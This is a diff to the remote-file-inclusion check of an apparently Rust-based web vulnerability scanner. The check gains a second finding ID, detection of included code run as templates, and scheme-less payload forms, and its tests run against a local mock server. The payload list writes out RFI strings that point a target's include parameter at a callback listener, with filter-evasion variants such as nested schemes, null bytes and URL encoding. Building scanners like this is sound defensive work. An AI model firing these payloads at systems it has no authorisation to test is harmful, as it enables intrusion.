@@ -10,16 +10,16 @@ use super::facts::facts;
 use super::marks::Marks;
 use super::traversal::has_likely_name;
 use crate::checks::{About, Bench, Check, Entry, callback};
-use crate::listener::RAN;
+use crate::listener::{PROCESSED, RAN};
 use crate::point::{Place, Point, Put};
-use crate::proof::{Expect, Proof};
+use crate::proof::{Expect, Proof, Seen};
 
 /// See [`About`].
 pub(super) struct RemoteFile;
 
 static ABOUT: About = About {
     name: "remote-file-inclusion",
-    qids: &[150_057],
+    qids: &[150_057, 990_026],
     means: "A value says which file is included as code, and addresses of other places are taken as well.",
     matters: "The sender of the request lets the application run code of their own.",
     remedy: "Choose what is included from a fixed list. Switch off `allow_url_include` and `allow_url_fopen`.",
@@ -35,15 +35,18 @@ const SHOWN: &[&str] =
 /// Addresses of the listener: with what makes an added extension harmless, and past filters for the usual writing. `{host}`
 /// stands for the host of the usual value, `{v}` for all of it, where its beginning or end is looked at.
 const CALLING: &[&str] = &[
-    "http://{{callback}}/{{token}}?",
-    "http://{{callback}}/{{token}}\0",
-    "HTTP://{{callback}}/{{token}}",
-    "hthttp://tp://{{callback}}/{{token}}?",
-    "http://{host}@{{callback}}/{{token}}?",
-    "http://{{callback}}/{{token}}?{v}",
-    "http://{{callback}}/{{token}}#",
-    "http%3A%2F%2F{{callback}}/{{token}}%3F",
+    "http://{{callback}}/run/{{token}}?",
+    "http://{{callback}}/run/{{token}}\0",
+    "HTTP://{{callback}}/run/{{token}}",
+    "hthttp://tp://{{callback}}/run/{{token}}?",
+    "http://{host}@{{callback}}/run/{{token}}?",
+    "http://{{callback}}/run/{{token}}?{v}",
+    "http://{{callback}}/run/{{token}}#",
+    "http%3A%2F%2F{{callback}}/run/{{token}}%3F",
 ];
+
+/// For what puts a scheme in front, where the name says that it asks for something.
+const WITHOUT_SCHEME: &[&str] = &["//{{callback}}/run/{{token}}?", "{{callback}}/run/{{token}}?"];
 
 impl Check for RemoteFile {
     fn about(&self) -> &'static About {
@@ -66,8 +69,8 @@ async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
     if !known.matters && !has_likely_name(point) {
         return;
     }
-    if let Some((payload, proof)) = by_call(bench, entry, point).await {
-        return bench.report_at(150_057, entry, Some((point, &payload)), proof);
+    if let Some((qid, payload, proof)) = by_call(bench, entry, point).await {
+        return bench.report_at(qid, entry, Some((point, &payload)), proof);
     }
     let marks = Marks::of(entry, point);
     let mut list: Vec<_> = SHOWN.iter().map(|template| products(template, &marks, &point.value)).collect();
@@ -84,10 +87,13 @@ fn coded(marks: &Marks) -> Attempt {
     Attempt { payload: address(&plain.payload), control: address(&plain.control), expect: plain.expect }
 }
 
-/// What the listener serves ran.
-async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(String, Proof)> {
+/// What the listener serves ran, as PHP or in another language.
+async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(u32, String, Proof)> {
+    let php = Expect::Body(RAN.to_owned());
+    let other = Expect::BodyMatches(PROCESSED.to_owned());
     let host = point.value.split_once("://").and_then(|(_, rest)| rest.split(['/', '?', '#']).next());
-    for form in CALLING {
+    let without = if has_likely_name(point) { WITHOUT_SCHEME } else { &[] };
+    for form in CALLING.iter().chain(without) {
         if form.contains("{host}") && host.is_none() {
             continue;
         }
@@ -95,13 +101,13 @@ async fn by_call(bench: &Bench<'_>, entry: &Entry, point: &Point) -> Option<(Str
         let token = callback::token_at(entry, point, form);
         let sent = callback::filled(bench, &payload, &token)?;
         let answer = bench.send_of(entry, &entry.request.with(point, Put::Text(&sent))).await.ok()?;
-        if !answer.text().contains(RAN) {
-            continue;
-        }
+        let seen = Seen { response: answer, ..Seen::default() };
+        let shown =
+            [(150_057, &php), (990_026, &other)].into_iter().find(|(_, ran)| ran.find(&seen).is_some());
+        let Some((qid, ran)) = shown else { continue };
         let attack = entry.request.with(point, Put::Text(&payload));
-        let replay = entry.replay(attack, Expect::Body(RAN.to_owned()), entry.request.clone());
-        if let Ok(proof) = bench.prove(replay).await {
-            return Some((payload, proof));
+        if let Ok(proof) = bench.prove(entry.replay(attack, ran.clone(), entry.request.clone())).await {
+            return Some((qid, payload, proof));
         }
     }
     None
@@ -151,6 +157,9 @@ mod tests {
                 Answer::html(format!("<p>Welcome</p>{rest}"))
             }
             _ if asked.path == "/remote" => Answer::html(include(&format!("{page}.html"), true)),
+            _ if asked.path == "/template" => {
+                Answer::html(include(&page, false).replace("{{ 1337*1338 }}", "1788906"))
+            }
             _ if asked.path == "/fetched" => Answer::html(include(&page, false)),
             _ => Answer::html(format!("no {}", page.replace('<', "&lt;"))),
         }
@@ -169,12 +178,15 @@ mod tests {
     async fn programs_of_the_listener_that_run_are_found_and_texts_are_not() {
         let server = serve(answer).await;
         let listener = CallbackListener::start(IpAddr::from([127, 0, 0, 1])).await.unwrap();
-        for (path, wanted) in [("/remote", 1), ("/fetched", 0), ("/shown", 0), ("/themed", 1)] {
+        for (path, wanted) in
+            [("/remote", 1), ("/fetched", 0), ("/shown", 0), ("/themed", 1), ("/template", 1)]
+        {
             let page = if path == "/themed" { "home.css" } else { "home" };
             let url = Target::parse(&format!("http://{server}{path}?page={page}")).unwrap();
             let extras = Extras { listener: Some(&listener), ..Extras::default() };
             let (found, _) = scan_with(&RemoteFile, vec![Request::get(url)], extras).await;
-            assert_eq!(found.iter().filter(|found| found.qid == 150_057).count(), wanted, "{path}");
+            let qid = if path == "/template" { 990_026 } else { 150_057 };
+            assert_eq!(found.iter().filter(|found| found.qid == qid).count(), wanted, "{path}");
         }
     }
 }
